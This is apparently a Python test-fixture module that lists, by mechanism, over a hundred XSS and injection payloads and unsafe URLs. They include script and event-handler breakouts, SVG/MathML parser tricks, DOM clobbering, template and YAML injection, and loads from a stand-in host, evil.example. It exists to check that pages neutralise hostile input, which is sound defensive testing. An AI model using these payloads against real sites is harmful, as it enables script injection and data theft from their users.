"""Texts and addresses a stranger could write to make a page run, load or lead somewhere: one of each mechanism.

A payload that comes alive sets the title of the window to ``RAN``, or asks for something at ``evil.example``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

RAN = "pwned"
_DO = f"top.document.title='{RAN}'"
_IMAGE = f"<img src=x onerror={_DO}>"
_SCRIPT = f"<script>{_DO}</script>"

PAYLOADS: dict[str, str] = {
    # out of an attribute
    "double quote": f'">{_SCRIPT}',
    "single quote": f"'>{_SCRIPT}",
    "attribute, double-quoted": f'" autofocus tabindex=0 onfocus="{_DO}" x="',
    "attribute, single-quoted": f"' autofocus tabindex=0 onfocus={_DO} x='",
    "attribute, unquoted": f"x autofocus tabindex=0 onfocus={_DO} ",
    "attribute, back quotes": f"` autofocus tabindex=0 onfocus={_DO} `",
    "attribute, entity for a quote": f"&quot; autofocus tabindex=0 onfocus=&quot;{_DO}",
    "attribute, animated": f'" style="animation-name:x" onanimationstart="{_DO}" x="',
    # scripts
    "script": _SCRIPT,
    "script in capitals": f"<ScRiPt>{_DO}</sCrIpT>",
    "script from a data address": f'<script src="data:text/javascript,{_DO}"></script>',
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script module": f"<script type=module>{_DO}</script>",
    "script never closed": f"<script>{_DO}//",
    "script with a slash": f"<script/x>{_DO}</script>",
    "script doubled": f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    "import map": '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
    # event handlers
    "image that fails": _IMAGE,
    "image with slashes": f"<img/src=x/onerror={_DO}>",
    "image, handler in entities": "<img src=x onerror=&#116;op.document.title=&#39;pwned&#39;>",
    "image set": f"<img srcset='x 1x' onerror={_DO}>",
    "picture": f"<picture><source srcset=x><img onerror={_DO}></picture>",
    "video": f"<video><source src=x onerror={_DO}></video>",
    "audio": f"<audio src=x onerror={_DO} autoplay>",
    "body": f"<body onload={_DO} onpageshow={_DO}>",
    "details": f"<details open ontoggle={_DO}>x</details>",
    "input": f"<input autofocus onfocus={_DO}>",
    "select": f"<select autofocus onfocus={_DO}></select>",
    "editable": f"<b contenteditable autofocus onfocus={_DO}>x</b>",
    "marquee": f"<marquee onstart={_DO}>x</marquee>",
    "popover": f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={_DO}>x</p>",
    "animated style": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_DO}>x</b>",
    "hidden until found": f"<p hidden=until-found onbeforematch={_DO}>x</p>",
    "mouse": f"<b onmouseover={_DO} onpointerenter={_DO}>x</b>",
    "access key": f"<button accesskey=n onclick={_DO}>x</button>",
    # SVG and MathML
    "svg": f"<svg onload={_DO}>",
    "svg script": f"<svg><script>{_DO}</script></svg>",
    "svg script by address": f'<svg><script href="data:text/javascript,{_DO}" /></svg>',
    "svg animation": f"<svg><animate onbegin={_DO} attributeName=x dur=1s></svg>",
    "svg set": f"<svg><set onbegin={_DO} attributeName=x to=y></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{_DO}"><text y=9>x</text></a></svg>',
    "svg link, animated": f'<svg><a><animate attributeName=href values="javascript:{_DO}"/><text>x</text></a></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_DO}>#x"/>',
    "svg foreign object": f"<svg><foreignObject>{_IMAGE}</foreignObject></svg>",
    "svg style": f"<svg><style>{_IMAGE}</style></svg>",
    "math link": f'<math href="javascript:{_DO}"><mi>x</mi></math>',
    "math, parsed twice": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMAGE}'>",
    "math annotation": f"<math><annotation-xml encoding=text/html>{_IMAGE}</annotation-xml></math>",
    # frames and objects
    "frame": f'<iframe src="javascript:{_DO}"></iframe>',
    "frame with its own page": f'<iframe srcdoc="{_SCRIPT}"></iframe>',
    "frame with its own page in entities": f'<iframe srcdoc="&lt;script&gt;{_DO}&lt;/script&gt;"></iframe>',
    "frame from elsewhere": "<iframe src=//evil.example/></iframe>",
    "object": f'<object data="javascript:{_DO}"></object>',
    "object, data address": f'<object data="data:text/html,{_SCRIPT}"></object>',
    "embed": f'<embed src="javascript:{_DO}">',
    # links, forms, and where the page leads
    "link": f'<a href="javascript:{_DO}">x</a>',
    "link with a line break": f'<a href="java&#10;script:{_DO}">x</a>',
    "link with a control": f'<a href="&#1;javascript:{_DO}">x</a>',
    "link, data address": f'<a href="data:text/html,{_SCRIPT}">x</a>',
    "area": f'<map name=x><area shape=default href="javascript:{_DO}"></map>',
    "form": f'<form action="javascript:{_DO}"><button>x</button></form>',
    "form from afar": f'<form id=f></form><button form=f formaction="javascript:{_DO}">x</button>',
    "refresh to a script": f'<meta http-equiv=refresh content="0;url=javascript:{_DO}">',
    "refresh to data": f'<meta http-equiv=refresh content="0;url=data:text/html,{_SCRIPT}">',
    "refresh elsewhere": "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "base": "<base href=https://evil.example/>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    # style and fetching
    "style import": "<style>@import '//evil.example/x.css';</style>",
    "style background": "<style>*{background:url(//evil.example/x.png)}</style>",
    "style of an element": '<b style="background:url(//evil.example/x.png);position:fixed;inset:0">x</b>',
    "style, data address": "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "style out of a value": "}*{display:none}/*",
    "prefetch": "<link rel=prefetch href=//evil.example/x><link rel=preload as=image href=//evil.example/y>",
    "ping": "<a href=#x ping=//evil.example/>x</a>",
    # out of the element it stands in
    "out of a title": f"</title>{_SCRIPT}",
    "out of a script": f"</script>{_SCRIPT}",
    "out of a style": f"</style>{_SCRIPT}",
    "out of a text area": f"</textarea>{_SCRIPT}",
    "out of a select": f"</option></select>{_SCRIPT}",
    "out of a table": f"</td></tr></table>{_SCRIPT}",
    "out of a template": f"</template>{_SCRIPT}<template>",
    "out of a comment": f"--!>{_SCRIPT}<!--",
    "comment that is none": f"<!-->{_SCRIPT}-->",
    "comment left open": "<!-- ",
    "character data": f"<![CDATA[>{_SCRIPT}]]>",
    "processing instruction": f"<?x >{_SCRIPT}?>",
    "noscript": f'<noscript><p title="</noscript>{_IMAGE}">',
    "plain text for ever": "<plaintext>",
    "shadow root": f"<div><template shadowrootmode=open>{_IMAGE}</template></div>",
    # written so that somebody decodes it
    "entities": f"&lt;script&gt;{_DO}&lt;/script&gt;",
    "entities twice": f"&amp;lt;script&amp;gt;{_DO}&amp;lt;/script&amp;gt;",
    "numbered entities": f"&#60;script&#x3e;{_DO}&#60;/script&#x3e;",
    "percent": f"%3Cscript%3E{_DO}%3C/script%3E",
    "backslashes": f"\\u003cscript\\u003e{_DO}\\x3c/script\\x3e",
    "UTF-7": f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    "full width": f"＜script＞{_DO}＜/script＞",
    # characters
    "null byte": f"<scr\0ipt>{_DO}</scr\0ipt><img\0src=x onerror={_DO}>",
    "vertical tab and form feed": f"<img\x0bsrc=x\x0conerror={_DO}>",
    "escape": "\x1b[31mred\x1b[0m\x07\x08\x7f\x9b31m",
    "written from the right": f"\u202e{_SCRIPT}\u202c\u2066x",
    "line separators": f"//\u2028{_DO}\u2029",
    "byte order mark": f"\ufeff{_SCRIPT}\ufffe",
    "half of a pair": "\udcff<b>\udc80",
    # templates
    "template, expression": "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}",
    "template, statement": "{% raw %}<b>x</b>{% include '/etc/passwd' %}{# x",
    "template literal": f"${{{_DO}}}`#{{{_DO}}}<%= {_DO} %>",
    "format": "%s%n{0.__init__.__globals__}",
    # names that mean something to a script
    "clobbers a form": '<form id="part.find"><input name=value><input name=addEventListener></form>',
    "clobbers the document": "<img name=getElementById><img name=querySelectorAll><img name=cookie><form name=body>",
    "clobbers the window": "<a id=location href=//evil.example/></a><a id=history></a><iframe name=top></iframe>",
    "clobbers an id": f"<p id=part.help></p><p id=q1></p><dialog id=part.find open>{_IMAGE}</dialog>",
    "prototype": "__proto__",
    "constructor": "constructor",
    "inherited method": "hasOwnProperty",
    # other languages than HTML
    "Markdown link": f"[click](javascript:{_DO}) ![x](https://evil.example/x.png) <https://evil.example>",
    "Markdown blocks": "# heading\n\n- item\n\n    code\n\n---\n| a | b |\n`tick` **bold** www.evil.example @someone",
    "JSON": '"}]}],"x":{"__proto__":{"ran":1}}',
    "YAML": "x: !!python/object/apply:os.system ['true']\n---\n- &a *a",
    "spreadsheet": '=HYPERLINK("https://evil.example/","x")',
}

# Addresses that are no web address, or hide something in one: none may be followed, or carry its charge along.
ADDRESSES: dict[str, str] = {
    "script": f"javascript:{_DO}",
    "script after a space": f" javascript:{_DO}",
    "script in capitals": f"JaVaScRiPt:{_DO}",
    "script with a tab": f"java\tscript:{_DO}",
    "script after a control": f"\x01javascript:{_DO}",
    "script that looks like a web address": f"javascript://a.example/%0a{_DO}",
    "script in entities": f"javascript&colon;{_DO}",
    "Basic": "vbscript:x",
    "data": f"data:text/html,{_SCRIPT}",
    "data in base 64": "data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9J3B3bmVkJzwvc2NyaXB0Pg==",
    "blob": "blob:https://a.example/x",
    "view source": "view-source:https://a.example/",
    "file": "file:///etc/hosts",
    "without a scheme": "//evil.example/x",
    "without a host": "https:///nohost",
    "out of its attribute": f'https://a.example/"onmouseover="{_DO}',
    "out of its attribute, single quote": f"https://a.example/'onmouseover='{_DO}",
    "out of its element": f"https://a.example/>{_SCRIPT}",
    "two lines": f"https://a.example/\n{_SCRIPT}",
    "back slashes": "https:\\\\evil.example\\x",
    "broken host": "https://[::1",
    "written from the right": "https://a.example/\u202etxt.exe",
}


def alive(page: Page) -> bool:
    """Whether a payload ran in ``page``."""
    return page.title() == RAN
